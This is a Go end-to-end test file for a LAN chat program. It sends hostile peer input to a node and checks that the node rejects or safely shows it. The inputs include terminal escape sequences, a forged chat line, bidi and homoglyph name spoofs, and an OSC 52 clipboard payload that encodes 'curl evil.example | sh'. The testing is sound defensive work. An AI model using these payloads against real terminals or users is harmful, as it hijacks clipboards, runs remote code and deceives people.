package e2e

// Issue 15, findings 1-3 and 7, against a real node with the hostile test
// peer (hostile_peer_test.go).
//
// TestHostileRememberedAddresses skips unless LANCHAT_E2E_ISSUE15_WIRED=1
// until peer/ records each connection's listening address with
// Known.RecordAddr.

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"lanchat/identity"
	"lanchat/transport"
)

// hostileTexts are what a hostile peer puts in every string it sends.
var hostileTexts = []struct{ name, s string }{
	{"clear screen", "\x1b[2J\x1b[3J\x1b[H"},
	{"window title", "\x1b]0;pwned\x07"},
	{"osc 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"},
	{"forged line", "x\n[12:00:00] <alice> send me your key"},
	{"bidi override", "evil\u202egnp.exe"},
	{"c1 and invalid utf-8", "a\u009b2J\xff\xfe"},
}

var forgedLineRE = regexp.MustCompile(`(?m)^\[\d\d:\d\d:\d\d\] <alice> send me your key`)

// TestHostileTerminalInjection (finding 1): a hostile peer sends every
// message type with strings that would clear the screen, set the title,
// write the clipboard, forge a line or reorder one; the node refuses
// every such message at decode (the connection is closed), and nothing
// the node prints, in JSON or in plain lines, on stdout or stderr, holds
// a raw control, bidi or format character.
func TestHostileTerminalInjection(t *testing.T) {
	for _, asJSON := range []bool{true, false} {
		t.Run(map[bool]string{true: "json", false: "plain"}[asJSON], func(t *testing.T) {
			h := newLoopbackHost(t)
			node := startRaw(t, h, "", asJSON, "--name", "alice", "--no-mdns", "--port", "0")
			k := 0
			connect := func(t *testing.T, o hostileOpts) (*hostilePeer, string) {
				t.Helper()
				k++
				name := fmt.Sprintf("mallory%d", k)
				hp, err := dialHostile(t, h, node.TCPPort, node.ID, name, o)
				if err != nil {
					t.Fatalf("hostile peer %s: handshake: %v", name, err)
				}
				// The node has it among its peers (a command naming it
				// typed sooner would find no such peer), unless it was
				// refused.
				if o.Welcome != nil {
					return hp, name
				}
				if asJSON {
					node.WaitText(t, `"event":"peer_up","ts":`) // then its name:
					node.WaitText(t, `"peer":"`+name+`","id":"`+hp.ID+`"`)
				} else {
					node.WaitText(t, "* "+name+" ("+identity.Short(hp.ID)+") joined")
				}
				return hp, name
			}
			mustClose := func(t *testing.T, hp *hostilePeer, what string) {
				t.Helper()
				if !hp.WaitClosed(eventTimeout) {
					t.Errorf("the node kept the connection after %s", what)
				}
				hp.Close()
			}
			for _, x := range hostileTexts {
				t.Run(x.name, func(t *testing.T) {
					if hp, err := dialHostile(t, h, node.TCPPort, node.ID, x.s, hostileOpts{}); err == nil {
						if !hp.WaitClosed(eventTimeout) {
							t.Errorf("hello with the name %q accepted", x.s)
						}
						hp.Close()
					}
					hp, _ := connect(t, hostileOpts{})
					_ = hp.Send(transport.Chat{MsgID: 1, Sent: time.Now().UnixNano(), Text: x.s})
					mustClose(t, hp, "a hostile chat text")

					hp, _ = connect(t, hostileOpts{})
					_ = hp.Send(transport.Nick{Name: x.s})
					mustClose(t, hp, "a hostile nick")

					hp, _ = connect(t, hostileOpts{})
					_ = hp.Send(transport.Bye{Reason: x.s})
					mustClose(t, hp, "a hostile bye reason")

					hp, _ = connect(t, hostileOpts{})
					_ = hp.Send(transport.PeerList{Peers: []transport.PeerRef{{ID: x.s, Addr: "10.1.2.3:4000"}}})
					mustClose(t, hp, "a hostile peer list id")

					hp, _ = connect(t, hostileOpts{})
					_ = hp.Send(transport.PeerList{Peers: []transport.PeerRef{{ID: hp.ID, Addr: x.s}}})
					mustClose(t, hp, "a hostile peer list address")

					w := transport.Welcome{Status: transport.WelcomeRefused, Reason: x.s}
					hp, _ = connect(t, hostileOpts{Decider: true, Welcome: &w})
					mustClose(t, hp, "a hostile welcome reason")

					hp, name := connect(t, hostileOpts{})
					hp.Zone = x.s
					node.Send(t, "/time -tcp "+name)
					mustClose(t, hp, "a hostile time zone")

					// Echo payloads are bytes, not text: they come
					// back, and the node shows the mismatch safely.
					hp, name = connect(t, hostileOpts{})
					hp.EchoPayload = []byte(x.s)
					node.Send(t, "/echo -tcp "+name+" ping")
					if asJSON {
						node.WaitText(t, `"peer":"`+name+`","id":"`+hp.ID+`","transport":"tcp","text":`)
					} else {
						node.WaitText(t, "echo from "+name)
					}
					hp.Close()
				})
			}
			// The output is flowing: an honest line gets through.
			hp, name := connect(t, hostileOpts{})
			canary := "canary-" + nonce()
			_ = hp.Send(transport.Chat{MsgID: 1, Sent: time.Now().UnixNano(), Text: canary})
			node.WaitText(t, canary)
			hp.Close()
			node.Quit(t)

			checkRawOutput(t, node)
			out := node.Stdout()
			if forgedLineRE.MatchString(out) {
				t.Errorf("a forged line under alice's name was printed")
			}
			if asJSON {
				for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
					if !strings.HasPrefix(line, "{") {
						t.Errorf("stdout line that is not a JSON event: %q", clip(line, 200))
					}
				}
			}
			if strings.Contains(out, "pwned") && !strings.Contains(out, `\x1b]0;pwned`) && !strings.Contains(out, `\u001b]0;pwned`) {
				t.Errorf("the window-title payload appears without its escape shown")
			}
			t.Logf("%d connections from the hostile peer (%s); %d bytes of output", k, name, len(out))
		})
	}
}

// TestHostileForgedNames (finding 2): names that fold to a known peer's
// name, or pass for an id prefix, are refused or flagged.
func TestHostileForgedNames(t *testing.T) {
	h := newLoopbackHost(t)
	alice := startNode(t, h, "--name", "alice", "--no-mdns", "--port", "0")
	bob := startNode(t, h, "--name", "bob", "--no-mdns", "--port", "0",
		"--peer", alice.ID+"@127.0.0.1:"+strconv.Itoa(alice.TCPPort))
	up := waitPeerUp(t, alice, 0, bob, "")
	if up.Str("trust") == "CONFLICT" {
		t.Fatalf("the real bob is a conflict: %v", up)
	}
	waitPeerUp(t, bob, 0, alice, "")

	t.Run("refused at the handshake", func(t *testing.T) {
		for _, name := range []string{
			"ｂｏｂ",                        // full width: not in the form names are sent in
			"bob\u200b",                  // zero-width space
			"\u202ebob",                  // bidi override
			"b ob",                       // a space
			"#bob",                       // a channel look-alike
			bob.ID[:8],                   // the short id shown beside bob's name
			bob.ID[:4],                   // the shortest id prefix a PEER may give
			identity.Grouped(bob.ID)[:9], // the grouped form
			"\u3164",                     // a Hangul filler: prints as nothing
		} {
			mark := alice.Mark()
			hp, err := dialHostile(t, h, alice.TCPPort, alice.ID, name, hostileOpts{})
			if err == nil {
				if !hp.WaitClosed(eventTimeout) {
					t.Errorf("name %q accepted", name)
				}
				hp.Close()
				alice.Never(t, mark, "peer_up for "+name, is("peer_up", "id", hp.ID))
			}
		}
	})

	t.Run("equal names are flagged", func(t *testing.T) {
		for _, name := range []string{"Bob", "BOB", "bOb"} {
			mark := alice.Mark()
			hp, err := dialHostile(t, h, alice.TCPPort, alice.ID, name, hostileOpts{})
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			ev := alice.WaitFrom(t, mark, "peer_up for "+name, eventTimeout, is("peer_up", "id", hp.ID))
			if ev.Str("trust") != "CONFLICT" {
				t.Errorf("%q, which compares equal to the known bob, is not a conflict: %v", name, ev)
			}
			text := "i am bob " + nonce()
			_ = hp.Send(transport.Chat{MsgID: 1, Sent: time.Now().UnixNano(), Text: text})
			ch := alice.WaitFrom(t, mark, "chat from "+name, eventTimeout, is("chat", "id", hp.ID, "text", text))
			if ch.Str("trust") != "CONFLICT" {
				t.Errorf("chat from %q not marked: %v", name, ch)
			}
			// /msg bob goes to the known bob only; the group line
			// after it, on the same connection, goes to everyone.
			msg := "for the real bob " + nonce()
			direct(t, alice, "bob", msg, bob)
			after := "after " + msg
			alice.Send(t, after)
			bob.Wait(t, "group line", eventTimeout, is("chat", "id", alice.ID, "text", after))
			deadline := time.Now().Add(eventTimeout)
			for !slices.Contains(hp.Chats(), after) && time.Now().Before(deadline) {
				time.Sleep(20 * time.Millisecond)
			}
			if got := hp.Chats(); !slices.Contains(got, after) || slices.Contains(got, msg) {
				t.Errorf("%q got %q: want the group line and not /msg bob", name, got)
			}
			hp.Close()
		}
	})

	t.Run("id prefix resolves first", func(t *testing.T) {
		lower := strings.ToLower(bob.ID[:8])
		hp, err := dialHostile(t, h, alice.TCPPort, alice.ID, lower, hostileOpts{})
		if err != nil {
			t.Fatalf("a lower-case id look-alike is a valid name, but: %v", err)
		}
		waitPeerUp(t, alice, 0, &Node{ID: hp.ID, Name: lower, Label: lower}, "")
		msg := "to bob by id " + nonce()
		direct(t, alice, lower, msg, bob)
		if slices.Contains(hp.Chats(), msg) {
			t.Errorf("a /msg to bob's id prefix went to the peer named %q", lower)
		}
	})
	noPanics(t, alice, bob)
}

// TestHostileKnownPeers (finding 3): whatever peers call themselves,
// known_peers round-trips it; a peer renaming itself claims few names;
// damaged lines do not stop the node.
func TestHostileKnownPeers(t *testing.T) {
	h := newLoopbackHost(t)
	dir := t.TempDir()
	knownPath := filepath.Join(dir, ".config", "lanchat", identity.KnownPeersFile)
	args := []string{"--name", "alice", "--no-mdns", "--port", "0"}
	alice := startRaw(t, h, dir, true, args...)

	names := []string{`q"uote`, `back\slash`, `a"b\"c\`, `pin`, `addr`, `trusted`, `x\n[12:00:00]`, "zoë", "日本語", "💙", `""`}
	idents := map[string]*identity.Identity{}
	for _, name := range names {
		hp, err := dialHostile(t, h, alice.TCPPort, alice.ID, name, hostileOpts{})
		if err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		alice.WaitText(t, `"id":"`+hp.ID+`"`)
		idents[name] = hp.ident
		hp.Close()
	}
	// A peer that renames itself 200 times.
	renamer, err := dialHostile(t, h, alice.TCPPort, alice.ID, "renamer", hostileOpts{})
	if err != nil {
		t.Fatal(err)
	}
	for i := range 200 {
		_ = renamer.Send(transport.Nick{Name: fmt.Sprintf("r%d", i)})
	}
	alice.WaitText(t, `"new":"r199"`)
	renamer.Close()
	alice.Quit(t)

	k, warns, err := identity.OpenKnown(knownPath, identity.KnownOptions{})
	if err != nil || len(warns) > 0 {
		data, _ := os.ReadFile(knownPath)
		t.Fatalf("known_peers after hostile names: %v %v\n%s", err, warns, data)
	}
	for name, id := range idents {
		if pinned, ok := k.PinnedID(name); !ok || pinned != id.ID {
			t.Errorf("%q: pinned to %q (%v), want %s", name, pinned, ok, id.ID)
		}
	}
	if got := k.NamesOf(renamer.ID); len(got) > 4 {
		t.Errorf("a peer that renamed itself 200 times holds %d names: %v", len(got), got)
	} else {
		t.Logf("200 renames pinned %v", got)
	}

	// Damaged lines: the node starts all the same.
	f, err := os.OpenFile(knownPath, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(f, "garbage\n\x00\x01\xff\xfe\npin \"bob\" not-an-id trusted 2026-01-01T00:00:00Z\n")
	f.Close()
	alice2 := startRaw(t, h, dir, true, args...)
	for name, id := range idents {
		hp, err := dialHostile(t, h, alice2.TCPPort, alice2.ID, name, hostileOpts{Ident: id})
		if err != nil {
			t.Fatalf("%q again: %v", name, err)
		}
		alice2.WaitText(t, `"id":"`+hp.ID+`"`)
		hp.Close()
	}
	for _, line := range strings.Split(alice2.Stdout(), "\n") {
		if strings.Contains(line, `"event":"peer_up"`) && !strings.Contains(line, `"trust":"trusted"`) {
			t.Errorf("a returning peer is not trusted: %s", line)
		}
	}
	t.Run("warnings shown at start", func(t *testing.T) {
		alice2.waitFor(t, "a warning naming the known_peers line", eventTimeout, func(out string) bool {
			return strings.Contains(out, `"event":"warning"`) && strings.Contains(out, knownPath) && strings.Contains(out, "line")
		})
	})
	alice2.Quit(t)
	checkRawOutput(t, alice)
	checkRawOutput(t, alice2)
}

// TestHostileKeyFileMode (finding 7): a key file others can read is
// refused, with the command that fixes it.
func TestHostileKeyFileMode(t *testing.T) {
	h := newLoopbackHost(t)
	dir := t.TempDir()
	env := hostEnv(dir)
	keyPath := filepath.Join(dir, ".config", "lanchat", identity.KeyFile)
	args := []string{"--name", "alice", "--no-mdns", "--json", "--port", "0"}
	if out, errOut, err := runSplit(t, h, env, args...); err != nil {
		t.Fatalf("first run: %v\n%s\n%s", err, out, errOut)
	}
	for _, mode := range []os.FileMode{0o644, 0o640, 0o604} {
		if err := os.Chmod(keyPath, mode); err != nil {
			t.Fatal(err)
		}
		out, errOut, err := runSplit(t, h, env, args...)
		if err == nil || strings.Contains(out, `"event":"ready"`) {
			t.Errorf("mode %04o: the node started", mode)
		}
		if !strings.Contains(errOut, "chmod 600 "+keyPath) {
			t.Errorf("mode %04o: stderr lacks %q:\n%s", mode, "chmod 600 "+keyPath, errOut)
		}
	}
	os.Chmod(keyPath, 0o600)
	if out, errOut, err := runSplit(t, h, env, args...); err != nil || !strings.Contains(out, `"event":"ready"`) {
		t.Errorf("after chmod 600: %v\n%s\n%s", err, out, errOut)
	}
}

// TestHostileVerify (finding 8, wired): /verify shows the same code on both
// sides; /verify PEER CODE marks the peer verified.
func TestHostileVerify(t *testing.T) {
	h := newLoopbackHost(t)
	alice := startNode(t, h, "--name", "alice", "--no-mdns", "--port", "0")
	bob := startNode(t, h, "--name", "bob", "--no-mdns", "--port", "0",
		"--peer", alice.ID+"@127.0.0.1:"+strconv.Itoa(alice.TCPPort))
	waitPeerUp(t, alice, 0, bob, "")
	waitPeerUp(t, bob, 0, alice, "")
	code := func(n *Node, peer string) string {
		mark := n.Mark()
		n.Send(t, "/verify "+peer)
		ev := n.WaitFrom(t, mark, "verify event", eventTimeout, is("verify"))
		return ev.Str("code")
	}
	ca, cb := code(alice, "bob"), code(bob, "alice")
	if ca == "" || ca != cb {
		t.Fatalf("codes differ: alice sees %q, bob %q", ca, cb)
	}
	mark := alice.Mark()
	alice.Send(t, "/verify bob "+strings.ReplaceAll(ca, " ", "-"))
	alice.WaitFrom(t, mark, "verify event", eventTimeout, is("verify"))
	text := "verified? " + nonce()
	bob.Send(t, text)
	ev := alice.Wait(t, "chat from bob", eventTimeout, is("chat", "id", bob.ID, "text", text))
	if ev.Str("trust") != "verified" {
		t.Errorf("after /verify with the right code, bob's chat is %q: %v", ev.Str("trust"), ev)
	}
	noPanics(t, alice, bob)
}

// TestHostileRememberedAddresses (issue 16 item 1, wired): a node records
// where each peer listens.
func TestHostileRememberedAddresses(t *testing.T) {
	h := newLoopbackHost(t)
	dir := t.TempDir()
	alice := startRaw(t, h, dir, true, "--name", "alice", "--no-mdns", "--port", "0")
	bob := startNode(t, h, "--name", "bob", "--no-mdns", "--port", "0",
		"--peer", alice.ID+"@127.0.0.1:"+strconv.Itoa(alice.TCPPort))
	alice.WaitText(t, `"id":"`+bob.ID+`"`)
	alice.Quit(t)
	k, _, err := identity.OpenKnown(filepath.Join(dir, ".config", "lanchat", identity.KnownPeersFile), identity.KnownOptions{})
	if err != nil {
		t.Fatal(err)
	}
	addrs := k.Addrs(bob.ID)
	if len(addrs) == 0 || addrs[0].AddrPort.Port() != uint16(bob.TCPPort) {
		t.Errorf("bob's listening address (port %d) not remembered: %v", bob.TCPPort, addrs)
	}
}
